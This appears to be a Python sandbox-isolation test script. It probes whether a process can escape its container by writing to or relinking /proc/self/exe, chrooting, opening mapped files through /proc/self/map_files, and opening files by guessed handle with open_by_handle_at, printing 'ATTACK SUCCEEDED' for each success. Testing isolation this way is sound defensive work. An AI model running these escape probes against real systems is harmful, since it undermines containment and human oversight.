# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
NAME_TO_HANDLE, OPEN_BY_HANDLE = {"x86_64": (303, 304), "aarch64": (264, 265)}[os.uname().machine]
AT_EMPTY_PATH = 0x1000
program = os.open("/proc/self/exe", os.O_PATH)
on_disk = {
    line.split(maxsplit=5)[5].strip() for line in open("/proc/self/maps") if line.count(" /") and "memfd" not in line
}


def attempt(action, *arguments, **named):
    try:
        action(*arguments, **named)
    except (OSError, ValueError):
        return False
    return True


seen = os.stat("/proc/self/exe")


def link():
    os.link("/proc/self/exe", "/tmp/program", follow_symlinks=True)
    os.unlink("/tmp/program")


# Its program is a file that may lie on another disk than its own root: is that one writable, or a way up? What it
# would set is what is set already, for where nothing isolates it is the machine's own.
ways = {
    "open to write": lambda: os.close(os.open("/proc/self/exe", os.O_WRONLY)),
    "open to append": lambda: os.close(os.open("/proc/self/exe", os.O_RDWR | os.O_APPEND)),
    "truncate": lambda: os.truncate("/proc/self/exe", seen.st_size),
    "change its mode": lambda: os.chmod("/proc/self/exe", seen.st_mode & 0o7777),
    "change its owner": lambda: os.chown("/proc/self/exe", seen.st_uid, seen.st_gid),
    "change its times": lambda: os.utime("/proc/self/exe", ns=(seen.st_atime_ns, seen.st_mtime_ns)),
    "link to it": link,
    "open again to write": lambda: os.close(os.open(f"/proc/self/fd/{program}", os.O_WRONLY)),
    "its folder by name": lambda: os.listdir("/proc/self/exe/.."),
    "its folder by descriptor": lambda: os.close(os.open("..", os.O_PATH, dir_fd=program)),
    "go into it": lambda: os.fchdir(program),
    "make it the root": lambda: os.chroot("/proc/self/exe"),
    "the folder of what is mapped": lambda: os.listdir("/proc/self/map_files"),
}
for what, way in ways.items():
    # A folder of its own mappings may be listed; what stands there is tried below.
    if attempt(way) and what != "the folder of what is mapped":
        print("ATTACK", "SUCCEEDED:", what)
print("ways into its program's file tried:", len(ways))

# %%
for path in sorted(on_disk):
    if attempt(lambda: os.close(os.open(path, os.O_WRONLY))):
        print("ATTACK", "SUCCEEDED: may write", path)
mapped = os.listdir("/proc/self/map_files") if attempt(ways["the folder of what is mapped"]) else []
for name in mapped:
    for how in (os.O_WRONLY, os.O_RDWR):
        try:
            opened = os.open(f"/proc/self/map_files/{name}", how)
        except OSError:
            continue
        # What was mapped from nowhere, such as its own shared memory, is its own.
        if os.readlink(f"/proc/self/fd/{opened}") in on_disk:
            print("ATTACK", "SUCCEEDED: may write what is mapped at", name)
        os.close(opened)
print("mapped files tried:", len(on_disk) > 5)


# %%
class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("text", ctypes.c_ubyte * 128)]


# By handle, a file of a disk is opened without a path to it: its root has number 2 on many.
handle, mount = Handle(size=128), ctypes.c_int()
libc.syscall(NAME_TO_HANDLE, program, b"", ctypes.byref(handle), ctypes.byref(mount), AT_EMPTY_PATH)
tried = 0
for inode in (2, 64, 128, 256):
    root = Handle(size=8, kind=1)
    ctypes.memmove(root.text, inode.to_bytes(4, "little") + bytes(4), 8)
    for one in (root, handle):
        tried += 1
        if libc.syscall(OPEN_BY_HANDLE, program, ctypes.byref(one), os.O_RDONLY) >= 0:
            print("ATTACK", "SUCCEEDED: opened by handle", inode)
print("handles tried:", tried)
